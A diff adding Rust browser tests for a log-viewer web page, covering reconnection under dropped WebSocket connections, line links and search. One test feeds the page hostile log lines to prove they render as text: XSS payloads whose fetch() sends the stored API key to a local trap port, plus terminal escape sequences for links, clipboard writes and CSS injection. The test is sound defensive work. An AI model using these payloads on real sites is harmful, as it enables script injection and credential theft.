@@ -10,7 +10,7 @@ mod webdriver;
 use std::time::Duration;
 
 use common::{Kind, Stack, numbered};
-use serde_json::json;
+use serde_json::{Value, json};
 use webdriver::Browser;
 
 const WAIT: Duration = Duration::from_secs(60);
@@ -94,6 +94,26 @@ fn joined(lines: &[String]) -> String {
     lines.iter().map(|l| format!("{l}\n")).collect()
 }
 
+/// Asserts the downloaded text is exactly `expected`, one line each, naming the first
+/// difference (not the whole text).
+fn assert_text(got: &str, expected: &[String], what: &str) {
+    if got == joined(expected) {
+        return;
+    }
+    let lines: Vec<&str> = got.lines().collect();
+    let first = (0..lines.len().max(expected.len()))
+        .find(|&i| lines.get(i).copied() != expected.get(i).map(String::as_str))
+        .unwrap_or(0);
+    panic!(
+        "{what}: {} lines instead of {}; line {} is {:?}, expected {:?}",
+        lines.len(),
+        expected.len(),
+        first + 1,
+        lines.get(first),
+        expected.get(first)
+    );
+}
+
 /// A late open of a 20,000-line running execution shows 1..20,000 once, in order, then follows
 /// new lines at the tail, and shows the exit badge on completion.
 async fn late_open_then_follow(kind: Kind) {
@@ -153,7 +173,7 @@ async fn late_open_then_follow(kind: Kind) {
         .await;
     assert_eq!(badge, json!("SUCCEEDED · exit 0"));
     let all: Vec<String> = backlog.iter().chain(&more).cloned().collect();
-    assert_eq!(download(&b, id).await, joined(&all));
+    assert_text(&download(&b, id).await, &all, "every line");
     b.screenshot(&screenshot_path(
         &stack,
         &format!("page-{kind:?}.png").to_lowercase(),
@@ -169,4 +189,262 @@ async fn a_late_page_shows_every_line_once_then_follows_on_the_local_stack() {
 #[tokio::test(flavor = "multi_thread")]
 async fn a_late_page_shows_every_line_once_then_follows_on_the_sim() {
     late_open_then_follow(Kind::Sim).await;
+}
+
+/// Every WebSocket connection is cut a second after it opens, and the subscription delivers
+/// duplicated, reordered and late batches, while the execution writes: the page still shows
+/// every line once, in order, and the exit badge.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_websocket_cut_mid_run_loses_nothing() {
+    let stack = Stack::start(
+        Kind::Local,
+        "web-cut",
+        Some("dup=0.3,reorder=0.3,delay-ms=0-200,ws-cut-ms=1000"),
+    )
+    .await;
+    let id = "web-cut-1";
+    stack.put_lines(id, &numbered("line", 1, 10)).await;
+    let dir = stack.dir.join("browser");
+    std::fs::create_dir_all(&dir).unwrap();
+    let b = Browser::start(&dir).await;
+    open_with_key(&b, &stack, &format!("/executions/{id}")).await;
+    wait_lines(&b, 10).await;
+    let mut next = 11;
+    for _ in 0..40 {
+        stack
+            .put_lines(id, &numbered("line", next, next + 99))
+            .await;
+        next += 100;
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    let total = next - 1;
+    stack.complete(id, "FAILED", Some(3)).await;
+    b.wait_for(
+        "the exit badge",
+        "return document.body.dataset.status === 'FAILED'",
+        WAIT,
+    )
+    .await;
+    assert_eq!(
+        b.script(
+            "return document.getElementById('badge').textContent",
+            vec![]
+        )
+        .await,
+        json!("FAILED · exit 3")
+    );
+    // Reordered deliveries give lines indexes in arrival order (I4 holds within a batch): the
+    // page must show exactly what the index holds, as the CLI prints it, each line once.
+    let cli = common::output(stack.runvoy(&["logs", id, "--no-follow"])).await;
+    let by_index = common::stdout_lines(&cli);
+    let mut sorted = by_index.clone();
+    sorted.sort_by_key(|l| l[5..].parse::<usize>().unwrap());
+    assert_eq!(
+        sorted,
+        numbered("line", 1, total),
+        "each line committed once"
+    );
+    assert_text(
+        &download(&b, id).await,
+        &by_index,
+        "every line once, in index order",
+    );
+    let connects: u64 = b
+        .script("return Number(document.body.dataset.connects)", vec![])
+        .await
+        .as_u64()
+        .unwrap();
+    assert!(
+        connects >= 3,
+        "the connection was cut and reopened: {connects} connections"
+    );
+}
+
+/// `#L1234` scrolls to that line and highlights it, a range highlights every line of it, and
+/// search finds a line among the loaded ones.
+#[tokio::test(flavor = "multi_thread")]
+async fn line_links_and_search_find_their_line() {
+    let stack = Stack::start(Kind::Local, "web-link", None).await;
+    let id = "web-link-1";
+    stack.put_lines(id, &numbered("line", 1, 5_000)).await;
+    let dir = stack.dir.join("browser");
+    std::fs::create_dir_all(&dir).unwrap();
+    let b = Browser::start(&dir).await;
+    open_with_key(&b, &stack, &format!("/executions/{id}#L1234")).await;
+    wait_lines(&b, 5_000).await;
+    let highlighted = b
+        .wait_for(
+            "line 1234 highlighted on screen",
+            "const log = document.getElementById('log').getBoundingClientRect(); \
+             const l = [...document.querySelectorAll('#log .line.hl')].filter(r => { \
+               const b = r.getBoundingClientRect(); return b.top >= log.top && b.bottom <= log.bottom; }) \
+             .map(r => r.dataset.line); return l.length ? l : null",
+            WAIT,
+        )
+        .await;
+    assert_eq!(highlighted, json!(["1234"]));
+    assert!(visible_rows(&b).await.contains(&(1234, "line 1234".into())));
+    // Still there after lines keep arriving: a linked line stops following the tail.
+    stack.put_lines(id, &numbered("line", 5_001, 5_100)).await;
+    wait_lines(&b, 5_100).await;
+    assert!(visible_rows(&b).await.contains(&(1234, "line 1234".into())));
+    b.screenshot(&screenshot_path(&stack, "page-line-link.png"))
+        .await;
+
+    // A range, reached by the address bar as a shared link would be.
+    b.goto(&format!("{}/executions/{id}#L10-L20", stack.url()))
+        .await;
+    wait_lines(&b, 5_100).await;
+    let range = b
+        .wait_for(
+            "lines 10-20 highlighted",
+            "const l = [...document.querySelectorAll('#log .line.hl')].map(r => Number(r.dataset.line)); \
+             return l.length ? l : null",
+            WAIT,
+        )
+        .await;
+    assert_eq!(range, json!((10..=20).collect::<Vec<u64>>()));
+
+    // Search within the loaded lines.
+    let search = b.find("#search").await;
+    b.type_into(&search, "line 4321\u{E007}").await;
+    b.wait_for(
+        "the match",
+        "return document.getElementById('found').textContent === 'line 4321'",
+        WAIT,
+    )
+    .await;
+    let matched = b
+        .script(
+            "return [...document.querySelectorAll('#log .line.match')].map(r => r.dataset.line)",
+            vec![],
+        )
+        .await;
+    assert_eq!(matched, json!(["4321"]));
+    b.type_into(&search, "\u{E003}".repeat(9).as_str()).await; // Backspace
+    b.type_into(&search, "no such text\u{E007}").await;
+    b.wait_for(
+        "no match",
+        "return document.getElementById('found').textContent === 'no match'",
+        WAIT,
+    )
+    .await;
+}
+
+/// Log text that tries to be HTML, script, a link or a terminal command is shown as text:
+/// nothing runs, nothing loads, and the key is never read or sent anywhere.
+#[tokio::test(flavor = "multi_thread")]
+async fn hostile_log_text_is_shown_never_run() {
+    let stack = Stack::start(Kind::Local, "web-hostile", None).await;
+    // Anything the page is tricked into fetching lands here.
+    let trap = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = trap.local_addr().unwrap().port();
+    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counted = hits.clone();
+    tokio::spawn(async move {
+        while trap.accept().await.is_ok() {
+            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+        }
+    });
+    let exfil =
+        format!("fetch('http://127.0.0.1:{port}/k?'+localStorage.getItem('runvoy.apiKey'))");
+    let lines = vec![
+        format!("<script>window.__pwned=1;{exfil}</script>"),
+        format!("<img src=x onerror=\"window.__pwned=1;{exfil}\">"),
+        format!("<img src=\"http://127.0.0.1:{port}/plain.png\">"),
+        format!("\x1b]8;;http://127.0.0.1:{port}/osc8\x1b\\click me\x1b]8;;\x1b\\"),
+        "\x1b[31m<b onmouseover=alert(1)>red</b>\x1b[0m plain".to_string(),
+        format!("\x1b[38;2;1;2;3);background:url(http://127.0.0.1:{port}/css)m styled?"),
+        format!("</span></div><a href=\"http://127.0.0.1:{port}/a\">a link</a>"),
+        "\x1b]0;retitled\x07 and \x1b]52;c;ZXZpbA==\x07 clipboard".to_string(),
+        "safe\rforged".to_string(),
+        "\x1b[1;32mPASS\x1b[0m colours: \x1b[33myellow\x1b[0m \x1b[38;5;208m256-orange\x1b[0m \x1b[38;2;120;160;255mtruecolor\x1b[0m \x1b[7minverse\x1b[0m".to_string(),
+    ];
+    let id = "web-hostile-1";
+    stack.put_lines(id, &lines).await;
+    let dir = stack.dir.join("browser");
+    std::fs::create_dir_all(&dir).unwrap();
+    let b = Browser::start(&dir).await;
+    open_with_key(&b, &stack, &format!("/executions/{id}")).await;
+    wait_lines(&b, lines.len()).await;
+    // Click the text that pretends to be a link, and hover the one with a handler.
+    b.click(&b.find("#log .line[data-line='7'] .msg").await)
+        .await;
+    b.click(&b.find("#log .line[data-line='5'] .msg").await)
+        .await;
+    tokio::time::sleep(Duration::from_secs(2)).await;
+
+    assert_eq!(
+        hits.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "the page fetched something a log line named"
+    );
+    let verdict = b
+        .script(
+            "return { pwned: window.__pwned === undefined ? null : window.__pwned, \
+               elements: document.querySelectorAll('#log img, #log script, #log b, #log a:not(.ln), #log iframe').length, \
+               title: document.title, href: location.href, \
+               urls: performance.getEntriesByType('resource').map(e => e.name) }",
+            vec![],
+        )
+        .await;
+    assert_eq!(verdict["pwned"], Value::Null, "a line ran as script");
+    assert_eq!(verdict["elements"], json!(0), "a line became markup");
+    assert_eq!(verdict["title"], json!(format!("{id} · runvoy logs")));
+    assert_eq!(
+        verdict["href"],
+        json!(format!("{}/executions/{id}", stack.url()))
+    );
+    for url in verdict["urls"].as_array().unwrap() {
+        let url = url.as_str().unwrap();
+        assert!(!url.contains(&stack.key), "the key is in a URL: {url}");
+        assert!(
+            url.starts_with(&stack.url()),
+            "the page contacted another origin: {url}"
+        );
+    }
+    let shown: Vec<String> = rows(&b).await.into_iter().map(|(_, t)| t).collect();
+    assert_eq!(shown[0], lines[0], "markup is shown as text");
+    assert_eq!(shown[1], lines[1]);
+    assert_eq!(
+        shown[3],
+        "^[]8;;http://127.0.0.1:PORT/osc8^[\\click me^[]8;;^[\\".replace("PORT", &port.to_string())
+    );
+    assert_eq!(
+        shown[4], "<b onmouseover=alert(1)>red</b> plain",
+        "colours render, markup does not"
+    );
+    assert!(
+        shown[5].starts_with("^[[38;2;1;2;3);background:url("),
+        "{}",
+        shown[5]
+    );
+    assert_eq!(shown[7], "^[]0;retitled^G and ^[]52;c;ZXZpbA==^G clipboard");
+    assert_eq!(shown[8], "safe^Mforged");
+    let red = b
+        .script(
+            "return getComputedStyle(document.querySelector(\"#log .line[data-line='5'] .msg span\")).color",
+            vec![],
+        )
+        .await;
+    assert_eq!(red, json!("rgb(224, 108, 117)"), "SGR 31 is rendered red");
+    b.screenshot(&screenshot_path(&stack, "page-hostile-text.png"))
+        .await;
+
+    // The policy every page response carries.
+    let r = reqwest::get(format!("{}/executions/{id}", stack.url()))
+        .await
+        .unwrap();
+    let csp = r.headers()["content-security-policy"]
+        .to_str()
+        .unwrap()
+        .to_string();
+    assert!(
+        csp.contains("script-src 'self';") && csp.contains("default-src 'none'"),
+        "{csp}"
+    );
+    assert!(
+        !csp.contains("unsafe-inline") && !csp.contains("unsafe-eval"),
+        "{csp}"
+    );
 }
